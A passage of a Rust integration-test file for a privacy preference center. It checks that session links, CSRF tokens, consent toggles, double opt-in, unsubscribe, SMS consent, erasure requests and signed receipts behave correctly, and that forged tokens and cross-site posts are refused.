//! The preference center through its HTTP handlers: links that open a session once, sessions
//! that reach only their own subject, CSRF and cross-site refusals, choices that land in the
//! ledger and flip decisions, double opt-in, one-click unsubscribe, written SMS consent,
//! erasure requests, receipts, sign-in by email and the JSON API.

use crate::support::{Answer, NOW, TestApp, send};
use axum::Router;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use kept_core::SubjectId;
use kept_core::ledger::{CollectionMethod, ConsentAction, ConsentRecord, decode};
use kept_server::prefcenter::mail::{Mail, Mailer};
use kept_server::prefcenter::{PrefCenter, PrefCenterConfig};
use kept_server::state::AppState;
use kept_store::{NewSubject, Role};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};

const ORIGIN: &str = "http://kept.test";
const MINUTE: i64 = 60 * 1000;

struct Center {
    app: TestApp,
    state: AppState,
    sent: Arc<Mutex<Vec<Mail>>>,
}

impl Center {
    async fn new() -> Center {
        Center::around(TestApp::new().await).await
    }

    /// A center on `manifest` instead of the demo's, with `extra` subjects beside the usual.
    async fn with(manifest: kept_core::manifest::Manifest, extra: Vec<NewSubject>) -> Center {
        let mut app = TestApp::new().await;
        let added = app.store.insert_subjects(extra).await.unwrap();
        app.subjects.extend(added);
        app = app.restart_with(manifest).await;
        Center::around(app).await
    }

    async fn around(app: TestApp) -> Center {
        let (mailer, sent) = Mailer::memory();
        let state = app.state.clone().with_prefcenter(PrefCenter::new(
            PrefCenterConfig {
                public_url: Some(ORIGIN.to_owned()),
                ..PrefCenterConfig::default()
            },
            mailer,
        ));
        Center { app, state, sent }
    }

    fn router(&self) -> Router {
        kept_server::router(self.state.clone())
    }

    /// The same server, its clock moved by `by` milliseconds.
    fn later(&self, by: i64) -> Router {
        kept_server::router(self.state.clone().with_clock(Arc::new(move || NOW + by)))
    }

    fn subject(&self, i: usize) -> SubjectId {
        self.app.subjects[i]
    }

    async fn api(&self, method: &str, path: &str, body: Option<Value>) -> Answer {
        let mut req = Request::builder().method(method).uri(path).header(
            header::AUTHORIZATION,
            format!("Bearer {}", self.app.key(Role::Privacy)),
        );
        let body = match body {
            Some(b) => {
                req = req.header(header::CONTENT_TYPE, "application/json");
                Body::from(b.to_string())
            }
            None => Body::empty(),
        };
        send(self.router(), req.body(body).unwrap()).await
    }

    async fn link(&self, subject: SubjectId) -> String {
        let answer = self
            .api(
                "POST",
                &format!("/v1/subjects/{}/preference-link", subject.0),
                None,
            )
            .await;
        assert_eq!(answer.status, StatusCode::CREATED, "{}", answer.text);
        let url = answer.json["url"].as_str().unwrap();
        url.strip_prefix(ORIGIN).unwrap().to_owned()
    }

    /// A browser signed in as `subject` through a minted link.
    async fn browser(&self, subject: SubjectId) -> Browser {
        let link = self.link(subject).await;
        let answer = send(self.router(), get_page(&link, None)).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
        let cookie = session_cookie(&answer).expect("the link sets a session cookie");
        let mut browser = Browser {
            cookie,
            csrf: String::new(),
        };
        let page = browser.get(self, "/preferences").await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.text);
        browser.csrf = csrf_of(&page.text);
        browser
    }

    async fn decide(&self, subject: SubjectId, request: Value) -> String {
        let mut body = request;
        body["subject"] = json!({ "id": subject.0 });
        let answer = send(
            self.router(),
            Request::post("/v1/decisions")
                .header(
                    header::AUTHORIZATION,
                    format!("Bearer {}", self.app.key(Role::Decide)),
                )
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(body.to_string()))
                .unwrap(),
        )
        .await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
        answer.json["reason"].as_str().unwrap().to_owned()
    }

    async fn records(&self, subject: SubjectId) -> Vec<ConsentRecord> {
        self.app
            .store
            .ledger_for_subject(subject)
            .await
            .unwrap()
            .iter()
            .map(|e| decode(&e.bytes).unwrap())
            .collect()
    }

    /// Gives `subject` an email address through the collection API, collected at `point`.
    async fn give_email(&self, user_id: &str, email: &str, point: &str) {
        let answer = send(
            self.router(),
            Request::post("/v1/identify")
                .header(
                    header::AUTHORIZATION,
                    format!("Bearer {}", self.app.key(Role::Server)),
                )
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(
                    json!({
                        "userId": user_id,
                        "traits": { "email": email },
                        "context": { "kept": { "collection_point": point } }
                    })
                    .to_string(),
                ))
                .unwrap(),
        )
        .await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    }

    fn mails(&self) -> Vec<Mail> {
        self.sent.lock().unwrap().clone()
    }
}

/// A browser's session cookie and the CSRF token of its last page.
struct Browser {
    cookie: String,
    csrf: String,
}

impl Browser {
    async fn get(&self, center: &Center, path: &str) -> Answer {
        send(center.router(), get_page(path, Some(&self.cookie))).await
    }

    /// Posts a form from the page itself (same origin), with the CSRF token.
    async fn post(&self, center: &Center, path: &str, fields: &[(&str, &str)]) -> Answer {
        let mut all: Vec<(&str, &str)> = vec![("csrf", &self.csrf)];
        all.extend_from_slice(fields);
        send(
            center.router(),
            form_post(path, &all, Some(&self.cookie), &[("origin", ORIGIN)]),
        )
        .await
    }
}

pub(crate) fn get_page(path: &str, cookie: Option<&str>) -> Request<Body> {
    let mut req = Request::get(path).header(header::HOST, "kept.test");
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    req.body(Body::empty()).unwrap()
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            b' ' => "+".to_owned(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

pub(crate) fn form_post(
    path: &str,
    fields: &[(&str, &str)],
    cookie: Option<&str>,
    headers: &[(&str, &str)],
) -> Request<Body> {
    let body: Vec<String> = fields
        .iter()
        .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
        .collect();
    let mut req = Request::post(path)
        .header(header::HOST, "kept.test")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    req.body(Body::from(body.join("&"))).unwrap()
}

fn session_cookie(answer: &Answer) -> Option<String> {
    answer
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with("kept_prefs=") && !c.starts_with("kept_prefs=;"))
        .map(|c| c.split(';').next().unwrap().to_owned())
}

fn csrf_of(html: &str) -> String {
    let at = html
        .find("name=\"csrf\" value=\"")
        .expect("the page has a form");
    let rest = &html[at + "name=\"csrf\" value=\"".len()..];
    rest[..rest.find('"').unwrap()].to_owned()
}

fn location(answer: &Answer) -> &str {
    answer.headers[header::LOCATION].to_str().unwrap()
}

/// The link in a mail, as a path on this server.
fn link_in(mail: &Mail) -> String {
    let at = mail.text.find(ORIGIN).expect("the mail holds a link");
    let rest = &mail.text[at + ORIGIN.len()..];
    rest.split_whitespace().next().unwrap().to_owned()
}

fn token_of(path: &str) -> String {
    path.split("token=").nth(1).unwrap().to_owned()
}

#[tokio::test]
async fn a_link_opens_a_session_once_and_never_when_expired_or_tampered() {
    let center = Center::new().await;
    let link = center.link(center.subject(0)).await;

    // Expired: the same link half an hour and a minute later.
    let late = send(center.later(31 * MINUTE), get_page(&link, None)).await;
    assert_eq!(late.status, StatusCode::FORBIDDEN);
    assert!(session_cookie(&late).is_none());

    // Tampered: another subject's number in the claims, the signature kept.
    let token = token_of(&link);
    let (payload, mac) = token.split_once('.').unwrap();
    use base64::Engine as _;
    let engine = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let mut claims: Value = serde_json::from_slice(&engine.decode(payload).unwrap()).unwrap();
    claims["s"] = json!(center.subject(1).0);
    let forged = format!(
        "/preferences/open?token={}.{mac}",
        engine.encode(claims.to_string())
    );
    let tampered = send(center.router(), get_page(&forged, None)).await;
    assert_eq!(tampered.status, StatusCode::FORBIDDEN);
    assert!(session_cookie(&tampered).is_none());

    // The genuine link, in time: a session, a redirect to the page.
    let first = send(center.router(), get_page(&link, None)).await;
    assert_eq!(first.status, StatusCode::SEE_OTHER);
    assert!(location(&first).starts_with("/preferences"));
    let set = first.headers[header::SET_COOKIE].to_str().unwrap();
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Lax"),
        "{set}"
    );
    assert!(!set.contains("Secure"), "plain http: no Secure flag");

    // Reused: refused.
    let again = send(center.router(), get_page(&link, None)).await;
    assert_eq!(again.status, StatusCode::FORBIDDEN);
    assert!(session_cookie(&again).is_none());
}

#[tokio::test]
async fn the_cookie_is_secure_behind_https() {
    let center = Center::new().await;
    let link = center.link(center.subject(0)).await;
    let answer = send(
        center.router(),
        Request::get(&link)
            .header("x-forwarded-proto", "https")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    assert!(
        answer.headers[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .contains("; Secure")
    );
}

#[tokio::test]
async fn cross_site_posts_and_missing_or_wrong_csrf_tokens_are_refused() {
    let center = Center::new().await;
    let subject = center.subject(0);
    let browser = center.browser(subject).await;
    let before = center.records(subject).await.len();
    let field = [("purpose", "personalize.content.profiled")];
    let with_csrf = |csrf: &str| {
        let mut f = vec![("csrf", csrf.to_owned())];
        f.push(("purpose", "personalize.content.profiled".to_owned()));
        f
    };

    for (headers, csrf) in [
        // A form on another site posting here.
        (vec![("sec-fetch-site", "cross-site")], browser.csrf.clone()),
        (
            vec![("origin", "https://evil.example")],
            browser.csrf.clone(),
        ),
        (vec![("origin", "null")], browser.csrf.clone()),
        // Same origin, but no token, or another session's.
        (vec![("origin", ORIGIN)], String::new()),
        (vec![("origin", ORIGIN)], "bm90LWEtdG9rZW4".to_owned()),
    ] {
        let fields = with_csrf(&csrf);
        let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let answer = send(
            center.router(),
            form_post(
                "/preferences/purposes",
                &fields,
                Some(&browser.cookie),
                &headers,
            ),
        )
        .await;
        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{headers:?}");
    }
    let other = center.browser(center.subject(1)).await;
    let mixed = send(
        center.router(),
        form_post(
            "/preferences/purposes",
            &[("csrf", &other.csrf), field[0]],
            Some(&browser.cookie),
            &[("origin", ORIGIN)],
        ),
    )
    .await;
    assert_eq!(
        mixed.status,
        StatusCode::FORBIDDEN,
        "a CSRF token is bound to its session"
    );
    assert_eq!(
        center.records(subject).await.len(),
        before,
        "nothing written"
    );
    // No session at all.
    let anonymous = send(
        center.router(),
        form_post(
            "/preferences/purposes",
            &[("csrf", &browser.csrf), field[0]],
            None,
            &[("origin", ORIGIN)],
        ),
    )
    .await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn a_session_reaches_only_its_own_subject() {
    let center = Center::new().await;
    let (a, b) = (center.subject(0), center.subject(1));
    let alice = center.browser(a).await;
    let bob = center.browser(b).await;
    // Bob's consent history has a record; Alice asks for its receipt.
    assert_eq!(
        bob.post(
            &center,
            "/preferences/do-not-sell",
            &[("do_not_sell", "yes")]
        )
        .await
        .status,
        StatusCode::SEE_OTHER
    );
    let bobs = center.app.store.ledger_for_subject(b).await.unwrap();
    let seq = bobs.last().unwrap().seq;
    let stolen = alice
        .get(&center, &format!("/preferences/receipts/{seq}.json"))
        .await;
    assert_eq!(stolen.status, StatusCode::NOT_FOUND);
    let own = bob
        .get(&center, &format!("/preferences/receipts/{seq}.json"))
        .await;
    assert_eq!(own.status, StatusCode::OK);
    // Alice's download holds Alice only.
    let data = alice.get(&center, "/preferences/data.json").await;
    assert_eq!(data.json["subject"]["id"], json!(a.0));
    assert!(data.json["consents"].as_array().unwrap().is_empty());
    // It is an access request of its own, verified by the session, answered at once, and its
    // log holds the hash of what was downloaded.
    let filed = center
        .app
        .store
        .requests(&kept_store::requests::RequestFilter {
            subject: Some(a),
            limit: 10,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(filed.len(), 1);
    assert_eq!(filed[0].kind.as_str(), "access");
    assert_eq!(filed[0].channel.as_str(), "preference_center");
    assert_eq!(filed[0].state.as_str(), "completed");
    assert_eq!(data.json["request"]["id"], json!(filed[0].id));
    let log = kept_server::requests::service::log_of(center.app.store.as_ref(), filed[0].id)
        .await
        .unwrap();
    let handed = log
        .iter()
        .find(|(_, _, r)| r.detail.iter().any(|(k, _)| k == "export.blake3"))
        .expect("the download is in the log");
    assert!(handed.2.detail.contains(&(
        "export.blake3".to_owned(),
        blake3::hash(&data.bytes).to_hex().to_string()
    )));
    // A link on another site files nothing.
    let cross = send(
        center.router(),
        Request::get("/preferences/data.json")
            .header(header::COOKIE, &alice.cookie)
            .header("sec-fetch-site", "cross-site")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(cross.status, StatusCode::FORBIDDEN);
    assert_eq!(
        center
            .app
            .store
            .requests(&kept_store::requests::RequestFilter {
                subject: Some(a),
                limit: 10,
                ..Default::default()
            })
            .await
            .unwrap()
            .len(),
        1
    );
    // A session cookie rewritten to name Bob is not a session.
    let token = alice.cookie.strip_prefix("kept_prefs=").unwrap();
    let (payload, mac) = token.split_once('.').unwrap();
    use base64::Engine as _;
    let engine = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let mut claims: Value = serde_json::from_slice(&engine.decode(payload).unwrap()).unwrap();
    claims["s"] = json!(b.0);
    let forged = Browser {
        cookie: format!("kept_prefs={}.{mac}", engine.encode(claims.to_string())),
        csrf: alice.csrf.clone(),
    };
    let page = forged.get(&center, "/preferences").await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    assert!(location(&page).starts_with("/preferences/sign-in"));
    assert_eq!(
        forged.get(&center, "/preferences/data.json").await.status,
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn a_toggle_writes_the_ledger_and_flips_the_decision_at_once() {
    let center = Center::new().await;
    let subject = center.subject(0); // Germany: personalisation needs consent.
    let use_ = json!({ "purpose": "personalize.content.profiled" });
    assert_eq!(
        center.decide(subject, use_.clone()).await,
        "denied.no_consent"
    );

    let browser = center.browser(subject).await;
    let on = browser
        .post(
            &center,
            "/preferences/purposes",
            &[("purpose", "personalize.content.profiled")],
        )
        .await;
    assert_eq!(on.status, StatusCode::SEE_OTHER, "{}", on.text);
    assert!(location(&on).contains("done=saved"));
    let records = center.records(subject).await;
    let last = records.last().unwrap();
    assert_eq!(last.purpose, "personalize.content.profiled");
    assert_eq!(last.action, ConsentAction::Given);
    assert_eq!(last.source, "preference_center");
    assert_eq!(last.method, CollectionMethod::WebForm);
    let notice = last.notice.as_ref().unwrap();
    let manifest = &center.state.manifest;
    assert_eq!(notice.id, "personalization");
    assert_eq!(notice.hash, manifest.notices["personalization"].hash);
    assert_eq!(records.len(), 1, "only the changed purpose is recorded");
    assert_eq!(
        center.decide(subject, use_.clone()).await,
        "allowed.consent"
    );

    // Switched off again (nothing ticked).
    let off = browser.post(&center, "/preferences/purposes", &[]).await;
    assert_eq!(off.status, StatusCode::SEE_OTHER);
    assert_eq!(
        center.records(subject).await.last().unwrap().action,
        ConsentAction::Withdrawn
    );
    assert_eq!(center.decide(subject, use_).await, "denied.withdrawn");
}

#[tokio::test]
async fn email_opt_in_counts_only_once_confirmed() {
    let center = Center::new().await;
    let subject = center.subject(0);
    center.give_email("u1", "ada@example.com", "checkout").await;
    let newsletter = json!({
        "purpose": "marketing.communications", "channel": "email", "topic": "newsletter"
    });
    let before = center.decide(subject, newsletter.clone()).await;
    assert!(before.starts_with("denied."), "{before}");

    let browser = center.browser(subject).await;
    let asked = browser
        .post(
            &center,
            "/preferences/messages",
            &[("topic", "email:newsletter"), ("frequency.email", "week")],
        )
        .await;
    assert_eq!(asked.status, StatusCode::SEE_OTHER, "{}", asked.text);
    assert!(location(&asked).contains("done=confirm_sent"));
    let pending = center.records(subject).await;
    assert_eq!(pending.last().unwrap().action, ConsentAction::Pending);
    assert_eq!(center.decide(subject, newsletter.clone()).await, before);
    let page = browser.get(&center, "/preferences").await;
    assert!(page.text.contains("Waiting for your confirmation"));

    // The mail goes out off the request; wait for it.
    let mut mails = center.mails();
    for _ in 0..100 {
        if !mails.is_empty() {
            break;
        }
        tokio::task::yield_now().await;
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        mails = center.mails();
    }
    let mail = mails.last().expect("a confirmation mail");
    assert_eq!(mail.to, "ada@example.com");
    let link = link_in(mail);
    assert!(link.starts_with("/preferences/confirm?token="));

    // Following the link shows a button; nothing is confirmed by a mere visit.
    let visit = send(center.router(), get_page(&link, None)).await;
    assert_eq!(visit.status, StatusCode::OK);
    assert_eq!(center.decide(subject, newsletter.clone()).await, before);
    let confirm = |_: ()| {
        form_post(
            "/preferences/confirm",
            &[("token", &token_of(&link))],
            None,
            &[("origin", ORIGIN)],
        )
    };
    let confirmed = send(center.router(), confirm(())).await;
    assert_eq!(confirmed.status, StatusCode::OK, "{}", confirmed.text);
    let records = center.records(subject).await;
    let given = records.last().unwrap();
    assert_eq!(given.action, ConsentAction::Given);
    assert_eq!(given.method, CollectionMethod::DoubleOptIn);
    assert_eq!(given.notice.as_ref().unwrap().id, "newsletter");
    assert_eq!(center.decide(subject, newsletter).await, "allowed.consent");
    // The promise: the email now has a provenance under the newsletter notice too, at the
    // preference center's own form, the one the customer used.
    let traits = center.app.store.traits(subject).await.unwrap();
    assert!(
        traits
            .iter()
            .any(|t| t.provenance.collection_point == "email_preferences")
    );
    assert!(
        !traits
            .iter()
            .any(|t| t.provenance.collection_point == "newsletter_signup")
    );
    assert!(
        traits
            .iter()
            .any(|t| t.provenance.collection_point == "checkout"),
        "the checkout's promise is kept"
    );
    // The confirmation link works once.
    assert_eq!(
        send(center.router(), confirm(())).await.status,
        StatusCode::FORBIDDEN
    );
    // The frequency choice was saved beside it.
    let prefs = center.app.store.channel_preferences(subject).await.unwrap();
    assert_eq!(prefs[0].frequency.unwrap().period.as_str(), "week");
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn one_click_unsubscribe_takes_effect_at_once() {
    let center = Center::new().await;
    let subject = center.subject(1); // California: marketing email is opt-out.
    center
        .give_email("u2", "bea@example.com", "newsletter_signup")
        .await;
    let given = center
        .api(
            "POST",
            "/v1/consents",
            Some(serde_json::from_str(&crate::support::newsletter_consent(subject)).unwrap()),
        )
        .await;
    assert_eq!(given.status, StatusCode::CREATED, "{}", given.text);
    let email = json!({
        "purpose": "marketing.communications", "channel": "email", "topic": "newsletter"
    });
    let before = center.decide(subject, email.clone()).await;
    assert_eq!(before, "allowed.consent");

    let prefs = center
        .api(
            "GET",
            &format!("/v1/subjects/{}/preferences", subject.0),
            None,
        )
        .await;
    assert_eq!(prefs.status, StatusCode::OK, "{}", prefs.text);
    assert_eq!(
        prefs.json["list_unsubscribe"]["post"],
        "List-Unsubscribe=One-Click"
    );
    let url = prefs.json["list_unsubscribe"]["url"].as_str().unwrap();
    let path = url.strip_prefix(ORIGIN).unwrap();

    // A tampered token does nothing.
    let bad = send(
        center.router(),
        form_post(
            &format!("{path}x"),
            &[("List-Unsubscribe", "One-Click")],
            None,
            &[],
        ),
    )
    .await;
    assert_eq!(bad.status, StatusCode::FORBIDDEN);

    // The mailbox provider posts from its own origin, without a session: it works.
    let done = send(
        center.router(),
        form_post(
            path,
            &[("List-Unsubscribe", "One-Click")],
            None,
            &[
                ("origin", "https://mail.example"),
                ("sec-fetch-site", "cross-site"),
            ],
        ),
    )
    .await;
    assert_eq!(done.status, StatusCode::OK, "{}", done.text);
    let last = center.records(subject).await.pop().unwrap();
    assert_eq!(last.action, ConsentAction::Withdrawn);
    assert_eq!(last.channel.as_deref(), Some("email"));
    assert_eq!(last.source, "preference_center");
    let after = center.decide(subject, email).await;
    assert_ne!(after, before);
    assert!(after.starts_with("denied."), "{after}");
    // Posting again changes nothing.
    let n = center.records(subject).await.len();
    let again = send(
        center.router(),
        form_post(path, &[("List-Unsubscribe", "One-Click")], None, &[]),
    )
    .await;
    assert_eq!(again.status, StatusCode::OK);
    assert_eq!(center.records(subject).await.len(), n);
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn unsubscribing_from_all_marketing_is_one_click() {
    let center = Center::new().await;
    let subject = center.subject(1);
    let browser = center.browser(subject).await;
    let answer = browser
        .post(&center, "/preferences/unsubscribe-all", &[])
        .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    for channel in ["email", "sms"] {
        let reason = center
            .decide(
                subject,
                json!({ "purpose": "marketing.communications", "channel": channel }),
            )
            .await;
        assert!(reason.starts_with("denied."), "{channel}: {reason}");
    }
    let orders = center
        .decide(
            subject,
            json!({ "purpose": "essential.service.notifications.email", "channel": "email" }),
        )
        .await;
    assert!(
        !orders.starts_with("denied.withdrawn"),
        "order updates continue: {orders}"
    );
}

#[tokio::test]
async fn sms_opt_in_needs_the_disclosure_and_records_written_consent() {
    let center = Center::new().await;
    let subject = center.subject(1); // California: texts need prior express written consent.
    let texts =
        json!({ "purpose": "marketing.communications", "channel": "sms", "topic": "offers" });
    let before = center.decide(subject, texts.clone()).await;
    assert!(before.starts_with("denied."), "{before}");
    let browser = center.browser(subject).await;

    let unaccepted = browser
        .post(
            &center,
            "/preferences/messages",
            &[("topic", "sms:offers"), ("phone", "+1 415 555 0134")],
        )
        .await;
    assert_eq!(unaccepted.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(center.records(subject).await.is_empty());

    let accepted = browser
        .post(
            &center,
            "/preferences/messages",
            &[
                ("topic", "sms:offers"),
                ("phone", "+1 415 555 0134"),
                ("sms_agree", "yes"),
            ],
        )
        .await;
    assert_eq!(accepted.status, StatusCode::SEE_OTHER, "{}", accepted.text);
    let record = center.records(subject).await.pop().unwrap();
    assert_eq!(record.method, CollectionMethod::Written);
    assert_eq!(record.action, ConsentAction::Given);
    assert_eq!(record.notice.as_ref().unwrap().id, "sms_offers");
    let disclosure = &center.state.manifest.notices["sms_offers"].locales["en"].text;
    assert_eq!(
        record.evidence.text_hash.as_deref(),
        Some(blake3::hash(disclosure.as_bytes()).to_hex().as_str())
    );
    let traits = center.app.store.traits(subject).await.unwrap();
    assert!(traits.iter().any(|t| {
        t.provenance.collection_point == "sms_offers_optin"
            && t.category == "user.contact.phone_number"
    }));
    assert_eq!(center.decide(subject, texts).await, "allowed.consent");
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn do_not_sell_and_gpc_in_an_opt_out_state() {
    let center = Center::new().await;
    let subject = center.subject(1);
    let ads = json!({ "purpose": "marketing.advertising.third_party.targeted" });
    assert!(
        center
            .decide(subject, ads.clone())
            .await
            .starts_with("allowed.")
    );
    let browser = center.browser(subject).await;
    // The browser sends GPC: California makes it an opt-out; the page records and says so.
    let page = send(
        center.router(),
        Request::get("/preferences")
            .header(header::COOKIE, &browser.cookie)
            .header("sec-gpc", "1")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains("Global Privacy Control"));
    let gpc = center.records(subject).await.pop().unwrap();
    assert_eq!(gpc.method, CollectionMethod::Gpc);
    assert_eq!(gpc.action, ConsentAction::OptedOut);
    assert_eq!(center.decide(subject, ads.clone()).await, "denied.gpc");
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn an_erasure_request_is_stored_with_its_deadline_and_stops_every_use() {
    let center = Center::new().await;
    let subject = center.subject(0);
    let browser = center.browser(subject).await;
    let unconfirmed = browser.post(&center, "/preferences/erase", &[]).await;
    assert_eq!(unconfirmed.status, StatusCode::UNPROCESSABLE_ENTITY);
    let filed = browser
        .post(&center, "/preferences/erase", &[("confirm", "yes")])
        .await;
    assert_eq!(filed.status, StatusCode::OK, "{}", filed.text);
    let requests = center.app.store.erasure_requests(subject).await.unwrap();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].regime, "gdpr");
    // GDPR: one month.
    assert_eq!(requests[0].due_at, kept_core::rulebook::add_months(NOW, 1));
    // Filed as a data subject request too, verified by the session, once.
    let filed_requests = center
        .app
        .store
        .requests(&kept_store::requests::RequestFilter {
            subject: Some(subject),
            limit: 10,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(filed_requests.len(), 1);
    assert_eq!(filed_requests[0].channel.as_str(), "preference_center");
    assert_eq!(filed_requests[0].due_at, requests[0].due_at);
    assert_eq!(
        center
            .decide(
                subject,
                json!({ "purpose": "essential.service.operations" })
            )
            .await,
        "denied.erasure_pending"
    );
    // The answer says so, and ends the session: the page with the data no longer opens.
    assert!(
        filed
            .text
            .contains("You asked us to delete your data on 2026-05-28"),
        "{}",
        filed.text
    );
    assert!(
        filed.headers[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .starts_with("kept_prefs=;")
    );
    let page = browser.get(&center, "/preferences").await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    assert!(location(&page).starts_with("/preferences/sign-in"));
    assert_eq!(
        browser.get(&center, "/preferences/data.json").await.status,
        StatusCode::UNAUTHORIZED
    );
    let api = center
        .api(
            "GET",
            &format!("/v1/subjects/{}/preferences", subject.0),
            None,
        )
        .await;
    assert_eq!(api.json["erasure"]["state"], "received");
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn a_receipt_verifies_with_the_ledger_key_and_a_changed_one_does_not() {
    let center = Center::new().await;
    let subject = center.subject(0);
    let browser = center.browser(subject).await;
    browser
        .post(
            &center,
            "/preferences/purposes",
            &[("purpose", "personalize.content.profiled")],
        )
        .await;
    let seq = center
        .app
        .store
        .ledger_for_subject(subject)
        .await
        .unwrap()
        .last()
        .unwrap()
        .seq;
    let page = browser.get(&center, "/preferences").await;
    assert!(
        page.text
            .contains(&format!("/preferences/receipts/{seq}.json"))
    );
    let answer = browser
        .get(&center, &format!("/preferences/receipts/{seq}.json"))
        .await;
    assert_eq!(answer.status, StatusCode::OK);
    let receipt = answer.json;
    assert_eq!(receipt["version"], "KI-CR-v1.1.0");
    let key = center.state.ledger.verifying_key();
    let verified = kept_core::receipt::verify(&receipt, Some(&key)).unwrap();
    assert_eq!(verified.seq, seq);
    assert_eq!(verified.purpose, "personalize.content.profiled");
    // It carries the ledger's checkpoint covering the record, as stored.
    let covering = center.app.store.checkpoint_covering(seq).await.unwrap();
    assert_eq!(verified.checkpoint, covering.as_ref().map(|c| c.seq));
    assert_eq!(
        receipt["kept"]["checkpoint"].as_str(),
        covering.as_ref().map(|c| c.to_witness_line()).as_deref()
    );
    let mut changed = receipt.clone();
    changed["consentTimestamp"] = json!(0);
    assert!(kept_core::receipt::verify(&changed, Some(&key)).is_err());
}

#[tokio::test]
async fn sign_in_answers_the_same_for_known_and_unknown_addresses() {
    let center = Center::new().await;
    center.give_email("u1", "ada@example.com", "checkout").await;
    let form = send(center.router(), get_page("/preferences/sign-in", None)).await;
    assert_eq!(form.status, StatusCode::OK);
    let token_at = form.text.find("name=\"form_token\" value=\"").unwrap();
    let rest = &form.text[token_at + "name=\"form_token\" value=\"".len()..];
    let form_token = rest[..rest.find('"').unwrap()].to_owned();
    let ask = |email: &str| {
        form_post(
            "/preferences/sign-in",
            &[("form_token", &form_token), ("email", email)],
            None,
            &[("origin", ORIGIN)],
        )
    };
    let known = send(center.router(), ask("Ada@Example.com")).await;
    let unknown = send(center.router(), ask("nobody@example.com")).await;
    assert_eq!(known.status, StatusCode::OK);
    assert_eq!(unknown.status, known.status);
    let without_token = |html: &str| {
        let at = html.find("name=\"form_token\" value=\"").unwrap();
        let end = at + html[at..].find("\">").unwrap();
        format!("{}{}", &html[..at], &html[end..])
    };
    assert_eq!(without_token(&unknown.text), without_token(&known.text));

    let mut mails = center.mails();
    for _ in 0..100 {
        if !mails.is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        mails = center.mails();
    }
    assert_eq!(mails.len(), 1, "a mail only to the known address");
    assert_eq!(mails[0].to, "ada@example.com");
    let link = link_in(&mails[0]);
    let opened = send(center.router(), get_page(&link, None)).await;
    assert_eq!(opened.status, StatusCode::SEE_OTHER);
    assert!(session_cookie(&opened).is_some());

    // Per-address limit: a burst, then 429 (for a known and an unknown address alike).
    let mut statuses = Vec::new();
    for _ in 0..4 {
        statuses.push(
            send(center.router(), ask("nobody@example.com"))
                .await
                .status,
        );
    }
    assert!(
        statuses.contains(&StatusCode::TOO_MANY_REQUESTS),
        "{statuses:?}"
    );
    // A cross-site sign-in post is refused.
    let cross = send(
        center.router(),
        form_post(
            "/preferences/sign-in",
            &[("form_token", &form_token), ("email", "ada@example.com")],
            None,
            &[("origin", "https://evil.example")],
        ),
    )
    .await;
    assert_eq!(cross.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_made_up_forwarded_for_does_not_escape_the_per_address_limit() {
    let center = Center::new().await;
    let form = send(center.router(), get_page("/preferences/sign-in", None)).await;
    let token_at = form.text.find("name=\"form_token\" value=\"").unwrap();
    let rest = &form.text[token_at + "name=\"form_token\" value=\"".len()..];
    let form_token = rest[..rest.find('"').unwrap()].to_owned();
    // One client tries many addresses, each request claiming another origin; with no proxy
    // configured the header is not believed and the connection's address is limited.
    let mut statuses = Vec::new();
    for i in 0..25 {
        let email = format!("guess{i}@example.com");
        let claimed = format!("198.51.100.{i}");
        let mut req = form_post(
            "/preferences/sign-in",
            &[("form_token", &form_token), ("email", &email)],
            None,
